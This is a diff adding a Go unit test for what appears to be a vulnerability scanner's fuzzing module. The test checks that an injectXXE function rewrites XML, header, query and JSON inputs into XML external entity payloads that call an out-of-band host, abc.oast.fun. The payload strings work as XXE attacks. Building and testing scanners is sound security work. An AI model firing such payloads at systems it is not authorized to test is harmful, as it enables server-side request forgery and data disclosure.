@@ -0,0 +1,36 @@
+package fuzz
+
+import (
+	"bytes"
+	"net/http"
+	"testing"
+
+	"github.com/projectdiscovery/retryablehttp-go"
+	"github.com/stretchr/testify/require"
+)
+
+func TestInjectXXE(t *testing.T) {
+	xxe := &xxeInjection{token: "nxxetoken", url: "abc.oast.fun"}
+
+	inject := func(body string) string {
+		req, err := retryablehttp.NewRequest(http.MethodPost, "https://example.com/?q=nxxetoken", bytes.NewReader([]byte(body)))
+		require.Nil(t, err, "could not create request")
+		req.Header.Set("X-Value", "nxxetoken")
+		req, err = injectXXE(req, xxe)
+		require.Nil(t, err, "could not inject xxe")
+		require.Equal(t, "http://abc.oast.fun/", req.URL.Query().Get("q"), "could not replace placeholder in url")
+		require.Equal(t, "http://abc.oast.fun/", req.Header.Get("X-Value"), "could not replace placeholder in header")
+		data, err := req.BodyBytes()
+		require.Nil(t, err, "could not read body")
+		require.Equal(t, int64(len(data)), req.ContentLength, "could not update content length")
+		return string(data)
+	}
+
+	require.Equal(t, `<?xml version="1.0"?><!DOCTYPE user [<!ENTITY xxe SYSTEM "http://abc.oast.fun/">]><user><name>&xxe;</name></user>`,
+		inject(`<?xml version="1.0"?><user><name>nxxetoken</name></user>`), "could not declare entity in new doctype")
+	require.Equal(t, `<!DOCTYPE user [<!ENTITY xxe SYSTEM "http://abc.oast.fun/"><!ENTITY a "b">]><user>&xxe;</user>`,
+		inject(`<!DOCTYPE user [<!ENTITY a "b">]><user>nxxetoken</user>`), "could not declare entity in internal subset")
+	require.Equal(t, `<!DOCTYPE user SYSTEM "user.dtd" [<!ENTITY xxe SYSTEM "http://abc.oast.fun/">]><user>&xxe;</user>`,
+		inject(`<!DOCTYPE user SYSTEM "user.dtd"><user>nxxetoken</user>`), "could not add internal subset to doctype")
+	require.Equal(t, `{"url":"http://abc.oast.fun/"}`, inject(`{"url":"nxxetoken"}`), "could not replace placeholder in non xml body")
+}